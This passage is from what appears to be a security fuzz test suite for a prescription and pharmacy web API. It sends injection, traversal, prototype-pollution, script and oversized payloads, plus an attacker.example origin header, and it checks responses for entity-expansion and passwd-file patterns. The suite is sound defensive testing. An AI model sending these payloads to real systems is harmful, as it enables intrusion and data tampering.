            { 0: Array.isArray(current) ? current[0] : 'x' },
            Array.from({ length: 10_000 }, () => (Array.isArray(current) ? current[0] : 'x')),
            [current],
            [null],
          );
        }
        if (field.kind === 'object') {
          shapes.push([current], [], 'object');
        }
        if (field.kind !== 'array' && field.kind !== 'object') {
          shapes.push([current], { value: current });
        }
        for (const value of shapes) {
          plant('shapes and nesting', value);
        }
      }
    }
  }

  // Path parameters, one at a time, the others left valid.
  for (const parameter of operation.parameters.filter((candidate) => candidate.in === 'path')) {
    const real = pathParamValue(operation.sample, ctx, parameter.name);
    for (const value of pathValues(real)) {
      cases.push({ category: 'path parameters', label: `${parameter.name} = ${value.label}`, url: replacedSegment(url, real, value.segment) });
    }
  }
  const [pathPart = url, queryPart] = url.split('?');
  const withQuery = (query: string): string => `${pathPart}?${query}`;
  for (const [label, changed] of [
    ['trailing slash', `${pathPart}/`],
    ['double slash', pathPart.startsWith('/api/v1/') ? pathPart.replace('/api/v1/', '/api/v1//') : pathPart.replace(/^(\/[^/]+)\//, '$1//')],
    ['encoded slash', pathPart.startsWith('/api/v1/') ? pathPart.replace('/api/v1/', '/api%2Fv1/') : pathPart.replace(/^(\/[^/]+)\//, '$1%2F')],
    ['upper case', pathPart.toUpperCase()],
    ['dot segments', `${pathPart}/../../..`],
    ['a NUL byte', `${pathPart}%00`],
    ['a semicolon', `${pathPart};jsessionid=x`],
  ] as const) {
    cases.push({ category: 'path parameters', label, url: queryPart === undefined ? changed : `${changed}?${queryPart}` });
  }

  // Query strings: every declared parameter with hostile values, repeated, unknown keys.
  const validQuery = new URLSearchParams(queryPart ?? '');
  const queryParameters = operation.parameters.filter((candidate) => candidate.in === 'query');
  for (const parameter of queryParameters) {
    const values = [
      ...HOSTILE_SAMPLE,
      '',
      'x'.repeat(10_000),
      '0',
      '-1',
      '1001',
      '1e3',
      '10.5',
      ' 10',
      '10 ',
      '0x10',
      '١٠',
      '１０',
      'abcdefghij',
      ...INVALID_DATES.slice(0, 6),
    ];
    for (const value of values) {
      const query = new URLSearchParams(validQuery);
      query.set(parameter.name, value);
      cases.push({ category: 'query strings', label: `${parameter.name} = ${describeValue(value)}`, url: withQuery(query.toString()) });
    }
    const valid = validQuery.get(parameter.name) ?? 'x';
    for (const [label, query] of [
      ['repeated', `${validQuery.toString()}&${parameter.name}=${encodeURIComponent(valid)}`],
      ['repeated, hostile', `${validQuery.toString()}&${parameter.name}=${encodeURIComponent(HOSTILE_TEXT[0] as string)}`],
      ['as an array', `${parameter.name}[]=${encodeURIComponent(valid)}`],
      ['as an object', `${parameter.name}[a]=${encodeURIComponent(valid)}`],
      ['empty', `${parameter.name}=`],
      ['without a value', parameter.name],
      ['bad percent-encoding', `${parameter.name}=%E0%A4%A`],
      ['a lone percent', `${parameter.name}=%`],
      ['100 kB', `${parameter.name}=${'9'.repeat(100_000)}`],
    ] as const) {
      cases.push({ category: 'query strings', label: `${parameter.name} ${label}`, url: withQuery(query) });
    }
  }
  for (const [label, extra] of [
    ['__proto__', '__proto__[admin]=true'],
    ['constructor.prototype', 'constructor[prototype][admin]=true'],
    ['an SQL key', `${encodeURIComponent("'; DROP TABLE patients; --")}=1`],
    ['a script value', `x=${encodeURIComponent('<script>alert(1)</script>')}`],
    ['only separators', '&&&=&=='],
    ['bad percent-encoding', 'x=%zz'],
  ] as const) {
    const query = [validQuery.toString(), extra].filter((part) => part !== '').join('&');
    cases.push({ category: 'query strings', label, url: withQuery(query) });
  }

  // Credentials and headers.
  if (operation.sample.public !== true) {
    for (const [label, credentials] of [
      ['an SQL bearer token', { authorization: "Bearer ' OR 1=1 --" }],
      ['a 10 kB bearer token', { authorization: `Bearer ${'a'.repeat(10_000)}` }],
      ['an empty bearer token', { authorization: 'Bearer ' }],
      ['Basic credentials', { authorization: 'Basic YWRtaW46YWRtaW4=' }],
      ['a script cookie', { cookie: 'isocourse_session=<script>alert(1)</script>' }],
      ['an SQL cookie', { cookie: `isocourse_session=${encodeURIComponent("' OR 1=1 --")}` }],
      ['no credentials', {}],
    ] as const) {
      cases.push({ category: 'credentials and headers', label, credentials });
    }
    // The same session as a cookie: a request that changes something must also carry the CSRF header.
    // (On an interop route: a person's session cookie, which never opens a machine's door.)
    cases.push({ category: 'credentials and headers', label: 'the session as a cookie, without the CSRF header', sessionAsCookie: true });
    if (operation.sample.client !== undefined) {
      cases.push({
        category: 'credentials and headers',
        label: "a person's session as the bearer token",
        credentials: { authorization: `Bearer ${STAFF_SESSION_MARK}` },
      });
    }
  }
  if (operation.method !== 'GET') {
    // Sent to every operation; kept (verbatim) only by those that declare the header.
    const declared = operation.parameters.some((parameter) => parameter.in === 'header' && parameter.name.toLowerCase() === 'idempotency-key');
    for (const value of ["'; DROP TABLE idempotency_keys; --", '<script>alert(1)</script>', 'x'.repeat(10_000), ' ', '\u00e9t\u00e9', randomUUID()]) {
      cases.push({
        category: 'credentials and headers',
        label: `Idempotency-Key ${describeValue(value)}`,
        headers: { 'idempotency-key': value },
        planted: declared ? [{ field: 'Idempotency-Key', value }] : [],
      });
    }
    cases.push({ category: 'credentials and headers', label: 'Origin of another site', headers: { origin: 'https://attacker.example' } });
    cases.push({ category: 'credentials and headers', label: 'X-HTTP-Method-Override: DELETE', headers: { 'x-http-method-override': 'DELETE' } });
  }
  return cases;
}

// ---------------------------------------------------------------------------------------------
// Random mutations (fast-check)

const randomValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXT),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.jsonValue({ maxDepth: 3 }),
  fc.double().map((value) => new RawJson(Number.isNaN(value) ? 'NaN' : Object.is(value, -0) ? '-0' : String(value))),
  fc.integer({ min: Number.MIN_SAFE_INTEGER, max: Number.MAX_SAFE_INTEGER }),
  fc.constantFrom<unknown>(...INVALID_DATES, ...EDGE_DATES),
  fc.boolean(),
  fc.constant(null),
);

interface Mutation {
  target: Array<string | number>;
  value: unknown;
  remove: boolean;
}

function randomCase(operation: Operation, fullSample: Record<string, unknown> | null, ctx: RouteContext): fc.Arbitrary<FuzzCase> {
  const url = urlOf(operation.sample, ctx);
  if (operation.sample.raw !== undefined) {
    return randomXmlCase(operation.sample.raw(ctx), url);
  }
  const { light: sample } = lighter(operation.body, fullSample);
  const targets = fullSample === null || operation.body === null ? [] : fieldsOf(operation.body, fullSample).map((field) => field.path);
  const mutation: fc.Arbitrary<Mutation> = fc.record({
    target:
      targets.length === 0
        ? fc.constant(['extra'])
        : fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...targets) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }).map((key) => [key]) }),
    value: randomValue,
    remove: fc.integer({ min: 0, max: 4 }).map((draw) => draw === 0),
  });
  const pathParameters = operation.parameters.filter((parameter) => parameter.in === 'path');
  return fc
    .record({
      mutations: fc.array(mutation, { minLength: sample === null ? 0 : 1, maxLength: 3 }),
      query: fc.option(
        fc.dictionary(
          fc.string({ maxLength: 10 }),
          fc.oneof(fc.string({ unit: 'binary', maxLength: 20 }), fc.constantFrom(...HOSTILE_TEXT.filter((value) => value.length < 1000))),
        ),
        { freq: 3 },
      ),
      pathValue:
        pathParameters.length === 0
          ? fc.constant(null)
          : fc.option(fc.tuple(fc.constantFrom(...pathParameters.map((p) => p.name)), fc.string({ unit: 'binary', maxLength: 40 })), { freq: 4 }),
    })
    .map(({ mutations, query, pathValue }) => {
      let body = sample === null ? null : copyOf(sample);
      for (const { target, value, remove } of mutations) {
        if (body === null) {
          break;
        }
        body = remove && target.length === 1 ? without(body, String(target[0])) : withValue(body, target, value);
      }
      // The text each mutated field ends up with (a later mutation may have replaced or removed it).
      const targets = [...new Map(mutations.map(({ target }) => [target.join('/'), target])).values()];
      const planted = targets.flatMap((target): PlantedText[] => {
        const value = valueAt(body, target);
        return typeof value === 'string' ? [{ field: target.join('/'), value }] : [];
      });
      let changedUrl = url;
      if (pathValue !== null) {
        const real = pathParamValue(operation.sample, ctx, pathValue[0]);
        changedUrl = replacedSegment(changedUrl, real, percentEncoded(pathValue[1]));
      }
      if (query !== null) {
        const [pathPart, queryPart] = changedUrl.split('?');
        const merged = new URLSearchParams(queryPart ?? '');
        for (const [key, value] of Object.entries(query)) {
          merged.append(key, value);
        }
        changedUrl = `${pathPart}?${merged.toString()}`;
      }
      return {
        category: 'random mutations (fast-check)' as const,
        label: `${describeValue(mutations.map((m) => [m.target.join('/'), m.remove ? '(removed)' : describeValue(m.value)]))} query ${describeValue(query)} path ${describeValue(pathValue)}`,
        url: changedUrl,
        payload: body === null ? null : serialize(body),
        planted,
      };
    });
}

// ---------------------------------------------------------------------------------------------

/** Who normally uses each operation, so a request gets past access checks into validation and logic. */
function usualCaller(operation: Operation): Caller {
  // An interop route: a registered client of its kind, with its access token.
  if (operation.sample.client !== undefined) {
    return operation.sample.client === 'practice' ? 'practiceClient' : 'pharmacyClient';
  }
  // What the patient alone writes: orders, their cancellation, messages and ratings.
  if (operation.method === 'POST' && operation.sample.path.startsWith('/api/v1/patients/{patientId}/orders')) {
    return 'patient';
  }
  if (/\/(users|organizations|audit)/.test(operation.sample.path)) {
    return 'admin';
  }
  if (/\/(authorizations|pharmacy)/.test(operation.sample.path)) {
    return 'pharmacist';
  }
  return 'prescriber';
}

interface Write {
  table_name: string;
  operation: string;
  row: unknown;
}

function tally(writes: readonly Write[]): Map<string, number> {
  const counts = new Map<string, number>();
  for (const write of writes) {
    const key = `${write.operation} ${write.table_name}`;
    counts.set(key, (counts.get(key) ?? 0) + 1);
  }
  return counts;
}

function stringsIn(value: unknown, found: Set<string> = new Set()): Set<string> {
  if (typeof value === 'string') {
    found.add(value);
  } else if (Array.isArray(value)) {
    value.forEach((item) => stringsIn(item, found));
  } else if (typeof value === 'object' && value !== null) {
    Object.values(value).forEach((item) => stringsIn(item, found));
  }
  return found;
}

/** Staff, the patient of the operation's own record (logged in as themself), or a client system. */
type Caller = StaffRole | 'patient' | 'practiceClient' | 'pharmacyClient';

/** Stands for a staff session's token in a case's credentials (the sessions are made in before()). */
const STAFF_SESSION_MARK = 'STAFF-SESSION-TOKEN';

const api = await startTestApi();
const openApi = (await api.app.inject({ method: 'GET', url: '/api/openapi.json' })).json<OpenApiDocument>();
const { operations, withoutSample } = operationsOf(openApi);

describe('fuzzing every operation of the OpenAPI document with bad input', () => {
  let ctx: RouteContext;
  const tokens = new Map<StaffRole, string>();
  /** Access tokens from /auth/token of a client of the test practice and of the test pharmacy. */
  const clientTokens = new Map<'practiceClient' | 'pharmacyClient', string>();
  const counts = new Map<Category, number>(CATEGORIES.map((category) => [category, 0]));
  const accepted = new Map<Category, number>(CATEGORIES.map((category) => [category, 0]));
  const statuses = new Map<number, number>();
  const spent = new Map<Category, number>(CATEGORIES.map((category) => [category, 0]));
  const started = Date.now();

  async function takeWrites(): Promise<Write[]> {
    const result = await sql<Write>`DELETE FROM fuzz_writes RETURNING table_name, operation, row`.execute(api.services.db);
    return result.rows;
  }

  /** A session of its own for the log-out route, so the fuzz never ends the sessions it uses. */
  async function freshToken(user: string): Promise<string> {
    const token = randomBytes(32).toString('base64url');
    const userId = user in api.ids.users ? api.ids.users[user as StaffRole] : user;
    await api.services.db
      .insertInto('sessions')
      .values({ token_hash: hashToken(token), user_id: userId, expires_at: new Date('2099-01-01T00:00:00Z'), last_seen_at: api.services.now() })
      .execute();
    return token;
  }
  /** The current context's patient's own session. */
  let patientToken = '';
  let patientSequence = 0;

  /**
   * A PCNGP patient of its own for each operation, with a prescription, an authorization held by
   * the pharmacy, a medication and an inbox message: what one operation's accepted requests record
   * never changes what the next operation is sent to, and a record left unreadable is the fault
   * of the operation that wrote it.
   */
  async function freshContext(): Promise<RouteContext> {
    api.today(ON);
    // The fuzzed look-ups of the operation before (wrong birth dates, odd identifiers) count
    // toward the look-up throttle (services/pharmacy/lookupThrottle.ts): each operation starts
    // afresh, or its own setup would be refused 429.
    await api.services.db.deleteFrom('lookup_failures').execute();
    patientSequence += 1;
    const patient = await enrollPatient(api, {
      category: 'PCNGP',
      enrolledOn: ON,
      account: { email: `fuzzed.patient${patientSequence}@test.example`, password: 'patient password long' },
    });
    const account = await api.services.db.selectFrom('patients').select('user_id').where('id', '=', patient.id).executeTakeFirstOrThrow();
    patientToken = await freshToken(account.user_id ?? '');
    const prescriptionId = await pcngpVisit(api, patient, ON);
    const authorization = await requestAuthorization(api, patient, prescriptionId, ON);
    assertStatus(authorization, 201, 'authorization');
    const medication = await api.as('prescriber').post(`/patients/${patient.id}/medications`, { name: 'Ibuprofen 200 mg', startedOn: ON });
    assertStatus(medication, 201, 'medication');
    const message = await api.services.db
      .insertInto('outbox_messages')
      .values({
        patient_id: patient.id,
        recipient_user_id: api.ids.users.prescriber,
        kind: 'test',
        subject: 'Your monthly test is due',
        body: 'Synthetic reminder',
        due_on: ON,
        channel: 'inbox',
        dedupe_key: `fuzz:${patient.id}`,
        delivered_at: new Date(`${ON}T12:00:00Z`),
        read_at: null,
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    const orderId = await insertOrder(api, patient.id, prescriptionId, api.ids.pharmacyId, ON);
    const feedbackId = await insertFeedback(api, orderId, ON);
    const reviewId = await insertMatchReview(api, patient.id, await testPracticeClient(api, patient.id));
    const missedDoseId = await insertMissedDoseReport(api, patient.id, ON);
    await takeWrites();
    return {
      patientId: patient.id,
      programId: patient.programId,
      birthDate: patient.birthDate,
      prescriptionId,
      authorizationId: authorization.body.id,
      medicationId: medication.body.id,
      missedDoseId,
      messageId: message.id,
      orderId,
      pharmacyId: api.ids.pharmacyId,
      feedbackId,
      reviewId,
      userId: api.ids.users.prescriber,
      organizationId: api.ids.pharmacyId,
      clientId: randomUUID(),
      on: ON,
    };
  }

  before(async () => {
    api.today(ON);
    // The staff log in before the fuzz: failed log-ins from this address soon slow it down (429).
    for (const role of ['admin', 'prescriber', 'delegate', 'pharmacist'] as const) {
      const login = await api.withToken(null).post('/sessions', { email: `${role}@test.example`, password: TEST_PASSWORD });
      assertStatus(login, 201, `log-in of ${role}`);
      tokens.set(role, login.body.token);
      await api.as(role).get('/me');
    }
    // The interop routes' callers: an EHR of the test practice and a system of the test pharmacy,
    // registered by the administrator, with tokens from the real /auth/token (issued on ON: the
    // fuzz's clock stays there, so they stay valid).
    clientTokens.set('practiceClient', (await registerInteropClient(api, { kind: 'practice', name: 'Fuzzed EHR' })).token);
    clientTokens.set('pharmacyClient', (await registerInteropClient(api, { kind: 'pharmacy', name: 'Fuzzed pharmacy system' })).token);
    // Every row any request writes, except the audit trail, sessions and log-in attempts, is recorded.
    await sql`CREATE TABLE fuzz_writes (id bigserial PRIMARY KEY, table_name text NOT NULL, operation text NOT NULL, row jsonb)`.execute(api.services.db);
    await sql`
      CREATE FUNCTION fuzz_record_write() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN
        IF TG_OP = 'DELETE' THEN
          INSERT INTO fuzz_writes (table_name, operation, row) VALUES (TG_TABLE_NAME, TG_OP, to_jsonb(OLD));
        ELSE
          INSERT INTO fuzz_writes (table_name, operation, row) VALUES (TG_TABLE_NAME, TG_OP, to_jsonb(NEW));
        END IF;
        RETURN NULL;
      END $$`.execute(api.services.db);
    const tables = await sql<{ table_name: string }>`
      SELECT table_name FROM information_schema.tables
      WHERE table_schema = 'public' AND table_type = 'BASE TABLE' AND table_name <> 'fuzz_writes'`.execute(api.services.db);
    const recorded = tables.rows.map((row) => row.table_name).filter((table) => !NOT_RECORDS.includes(table));
    assert.ok(recorded.includes('patients') && recorded.includes('pregnancy_tests'), recorded.join());
    for (const table of recorded) {
      await sql`CREATE TRIGGER fuzz_record_write AFTER INSERT OR UPDATE OR DELETE ON ${sql.table(table)} FOR EACH ROW EXECUTE FUNCTION fuzz_record_write()`.execute(
        api.services.db,
      );
    }
  });

  after(async () => {
    const rows = CATEGORIES.map(
      (category) =>
        `  ${category.padEnd(32)} ${String(counts.get(category)).padStart(6)} sent, ${String(accepted.get(category)).padStart(5)} accepted, ${((spent.get(category) ?? 0) / 1000).toFixed(1).padStart(5)} s`,
    );
    const total = [...counts.values()].reduce((sum, count) => sum + count, 0);
    console.log(
      [
        `fuzz: ${operations.length} operations, ${total} requests in ${((Date.now() - started) / 1000).toFixed(1)} s (fast-check seed ${SEED}):`,
        ...rows,
        `  statuses: ${JSON.stringify(Object.fromEntries([...statuses.entries()].sort(([a], [b]) => a - b)))}`,
      ].join('\n'),
    );
    await api.close();
  });

  test('every operation of the OpenAPI document has a sample request in test/support/routes.ts', () => {
    assert.ok(operations.length >= 40, `only ${operations.length} operations`);
    assert.deepEqual(withoutSample, [], 'add these to ROUTES: they cannot be fuzzed without a valid request to start from');
  });

  for (const operation of operations) {
    test(`${operation.name}: never a 5xx, every refusal in the route’s error format (problem+json, OperationOutcome, NCPDP Error) and without a write, hostile text kept verbatim when accepted`, async () => {
      ctx = await freshContext();
      const sampleBody = (): Record<string, unknown> | null => operation.sample.body?.(ctx) ?? null;
      let sequence = 0;
      /** A fresh address for each request, so an enrollment or a user can be created again. */
      const freshEmails = (payload: string): string => {
        sequence += 1;
        return payload.replace(/"([\w.+-]+)@test\.example"/g, (_match, local: string) => `"${local}.fuzz${sequence}@test.example"`);
      };
      /**
       * A fresh message id for each SCRIPT message (where the case left the sample's own), as a
       * sender numbers its messages: the same id again with other content is refused as a reuse
       * before its values are read, and the values are what is fuzzed.
       */
      const sampleMessageId = /<MessageID>([^<]*)<\/MessageID>/.exec(payloadOf(operation.sample, ctx)?.payload ?? '')?.[1];
      const freshMessageId = (payload: string): string =>
        sampleMessageId === undefined || operation.sample.raw === undefined
          ? payload
          : payload.replace(`<MessageID>${sampleMessageId}</MessageID>`, `<MessageID>f${sequence}-${sampleMessageId}</MessageID>`);

      // Who sends it: the usual caller, or the first role the operation does not refuse.
      // An interop route is sent by its client alone: no person's session is tried in its place.
      const interop = operation.sample.client !== undefined;
      const roles: Caller[] = interop
        ? [usualCaller(operation)]
        : [usualCaller(operation), ...(['prescriber', 'pharmacist', 'admin', 'delegate'] as const).filter((role) => role !== usualCaller(operation))];
      const credentialsOf = async (role: Caller, asCookie = false): Promise<Record<string, string>> => {
        if (operation.sample.public === true) {
          return {};
        }
        if (role === 'practiceClient' || role === 'pharmacyClient') {
          // A person's session cookie on a machine's route (the client's token is never a cookie).
          return asCookie ? { cookie: `isocourse_session=${tokens.get('prescriber')}` } : { authorization: `Bearer ${clientTokens.get(role)}` };
        }
        const token =
          role === 'patient' ? patientToken : operation.name === 'DELETE /api/v1/sessions/current' ? await freshToken(role) : (tokens.get(role) as string);
        return asCookie ? { cookie: `isocourse_session=${token}` } : { authorization: `Bearer ${token}` };
      };
      const sentAs = payloadOf(operation.sample, ctx);

      async function send(fuzzCase: FuzzCase, role: Caller): Promise<{ response: LightMyRequestResponse; writes: Write[] }> {
        const { light: sample } = lighter(operation.body, sampleBody());
        const sent =
          fuzzCase.payload === undefined
            ? operation.sample.raw !== undefined
              ? (sentAs?.payload ?? null)
              : sample === null
                ? null
                : serialize(sample)
            : fuzzCase.payload;
        const payload = sent === null ? null : freshMessageId(freshEmails(sent));
        // The route's own content type (JSON, FHIR JSON, XML) unless the case sends another.
        const contentType =
          fuzzCase.contentType === undefined
            ? payload === null
              ? null
              : (sentAs?.contentType ?? operation.sample.contentType ?? 'application/json')
            : fuzzCase.contentType;
        const credentials = fuzzCase.credentials === undefined ? await credentialsOf(role, fuzzCase.sessionAsCookie) : (fuzzCase.credentials ?? {});
        const headers: Record<string, string> = {
          ...Object.fromEntries(Object.entries(credentials).map(([name, value]) => [name, value.replace(STAFF_SESSION_MARK, tokens.get('prescriber') ?? '')])),
          ...(contentType === null ? {} : { 'content-type': contentType }),
          ...fuzzCase.headers,
        };
        const response = await api.app.inject({
          method: operation.method,
          url: fuzzCase.url ?? urlOf(operation.sample, ctx),
          headers,
          ...(payload === null ? {} : { payload }),
        });
        return { response, writes: await takeWrites() };
      }

      // The valid sample: what an accepted request of this operation writes.
      let role = roles[0] as Caller;
      const sample = sampleBody();
      const sampleCase: FuzzCase = {
        category: 'keys',
        label: 'sample',
        payload: operation.sample.raw !== undefined ? (sentAs?.payload ?? null) : sample === null ? null : serialize(sample),
      };
      let baseline = await send(sampleCase, role);
      for (const candidate of roles.slice(1)) {
        if (baseline.response.statusCode !== 403) {
          break;
        }
        role = candidate;
        baseline = await send(sampleCase, role);
      }
      const refusedCaller = baseline.response.statusCode === 403 || (baseline.response.statusCode === 401 && operation.sample.public !== true);
      assert.ok(baseline.response.statusCode < 500 && !refusedCaller, `the sample request: ${baseline.response.statusCode} ${baseline.response.body}`);
      const reference = baseline.response.statusCode < 300 ? tally(baseline.writes) : null;

      const problems: string[] = [];
      let lastWrites = 0;
      async function attempt(fuzzCase: FuzzCase): Promise<string[]> {
        const sentAt = performance.now();
        const { response, writes } = await send(fuzzCase, role);
        spent.set(fuzzCase.category, (spent.get(fuzzCase.category) ?? 0) + performance.now() - sentAt);
        lastWrites = writes.length;
        const status = response.statusCode;
        counts.set(fuzzCase.category, (counts.get(fuzzCase.category) ?? 0) + 1);
        statuses.set(status, (statuses.get(status) ?? 0) + 1);
        const what = `[${fuzzCase.category}] ${fuzzCase.label} → ${status}`;
        const found: string[] = [];
        if (status >= 500) {
          found.push(`${what} ${response.body.slice(0, 300)}`);
        }
        // Whatever the answer, an entity was never expanded: no file, no thousand laughs in it.
        if (fuzzCase.category === 'XML entities and DTDs' && /root:x?:0:0|(lol){20}|a{20000}|Spoofed/.test(response.body)) {
          found.push(`${what}: the answer holds an expanded entity: ${response.body.slice(0, 300)}`);
        }
        if ((fuzzCase.label === '10 MB JSON' || fuzzCase.label === '10 MB XML') && operation.method !== 'GET' && status !== 413) {
          found.push(`${what}: a 10 MB body must be refused 413`);
        }
        if (status >= 400) {
          // problem+json for the API; an OperationOutcome or an NCPDP Error for an interop route.
          const wrongFormat = refusalFormatProblem(operation.sample, status, response.headers['content-type'], response.body);
          // A path changed so that it names no route at all (a trailing slash, upper case) is
          // answered by the server's one "no such route", whatever the route it was taken from speaks.
          const noSuchRoute = fuzzCase.category === 'path parameters' && status === 404 && /"title":"No such route"/.test(response.body);
          if (wrongFormat !== null && !noSuchRoute) {
            found.push(`${what}: ${wrongFormat}`);
          }
          // A message about someone who matches a patient by name and birth date alone opens a
          // review for the care team even though the message itself is refused (issue 11, item 7).
          const recorded = writes.filter((write) => !(interop && write.operation === 'INSERT' && write.table_name === 'patient_match_reviews'));
          if (recorded.length > 0) {
            found.push(`${what} but wrote ${JSON.stringify([...tally(recorded)])}`);
          }
        } else if (status >= 200 && status < 300) {
          accepted.set(fuzzCase.category, (accepted.get(fuzzCase.category) ?? 0) + 1);
          const allowed = new Map(reference ?? []);
          if (fuzzCase.headers?.['idempotency-key'] !== undefined) {
            allowed.set('INSERT idempotency_keys', 1);
          }
          for (const [key, count] of tally(writes)) {
            if (count > (allowed.get(key) ?? 0)) {
              found.push(`${what} wrote ${count} × ${key}; the valid sample wrote ${JSON.stringify([...(reference ?? [])])}`);
            }
          }
          const stored = stringsIn(writes.filter((write) => write.operation !== 'DELETE').map((write) => write.row));
          // An interop route maps a message onto the facts and keeps only what it maps: no text is planted there.
          for (const { field, value } of interop ? [] : (fuzzCase.planted ?? [])) {
            if (!NOT_STORED_AS_SENT.has(field) && !stored.has(value)) {
              found.push(`${what}: ${field} = ${describeValue(value)} was accepted but not stored verbatim`);
            }
          }
        } else {
          found.push(`${what}: unexpected status`);
        }
        return found;
      }

      /** What was accepted must not break what is read afterwards: the patient's record, status and clinical view. */
      async function readsStillWork(after: string): Promise<string[]> {
        const found: string[] = [];
        for (const path of [
          `/api/v1/patients/${ctx.patientId}`,
          `/api/v1/patients/${ctx.patientId}/status`,
          `/api/v1/patients/${ctx.patientId}/clinical`,
          '/api/v1/worklist',
        ]) {
          const read = await api.app.inject({ method: 'GET', url: path, headers: { authorization: `Bearer ${tokens.get('prescriber')}` } });
          if (read.statusCode !== 200) {
            found.push(`after ${after}: GET ${path} → ${read.statusCode} ${read.body.slice(0, 200)}`);
          }
        }
        await takeWrites();
        return found;
      }

      let wroteSinceRead = baseline.writes.length > 0;
      let lastCategory: Category | null = null;
      for (const fuzzCase of casesFor(operation, sampleBody(), ctx)) {
        if (wroteSinceRead && fuzzCase.category !== lastCategory) {
          problems.push(...(await readsStillWork(`the ${lastCategory ?? 'sample'} requests`)));
          wroteSinceRead = false;
        }
        lastCategory = fuzzCase.category;
        problems.push(...(await attempt(fuzzCase)));
        wroteSinceRead ||= lastWrites > 0;
      }
      // Random mutations: the first failing one is reported with its seed and path, to replay it.
      const seed = SEED + operations.indexOf(operation);
      try {
        await fc.assert(
          fc.asyncProperty(randomCase(operation, sampleBody(), ctx), async (fuzzCase) => {
            assert.deepEqual(await attempt(fuzzCase), []);
          }),
          { numRuns: RANDOM_RUNS, seed, endOnFailure: true },
        );
      } catch (error) {
        problems.push(`[random mutations (fast-check)] seed ${seed}: ${error instanceof Error ? error.message : String(error)}`);
      }
      problems.push(...(await readsStillWork('the random mutations')));

      // The server still answers an ordinary request.
      const health = await api.app.inject({ method: 'GET', url: '/api/health' });
      assert.equal(health.statusCode, 200);
      const me = await api.app.inject({ method: 'GET', url: '/api/v1/me', headers: { authorization: `Bearer ${tokens.get('prescriber')}` } });
      assert.equal(me.statusCode, 200, me.body);
      assert.deepEqual(problems.slice(0, 40), [], `${problems.length} problems`);
    });
  }

  test('after all of it the server still fills a prescription from enrollment to dispense', async () => {
    await takeWrites();
    const patient = await enrollPatient(api, { category: 'PCNGP', enrolledOn: ON });
    const prescriptionId = await pcngpVisit(api, patient, ON);
    await authorizeAndDispense(api, patient, prescriptionId, ON);
  });
});
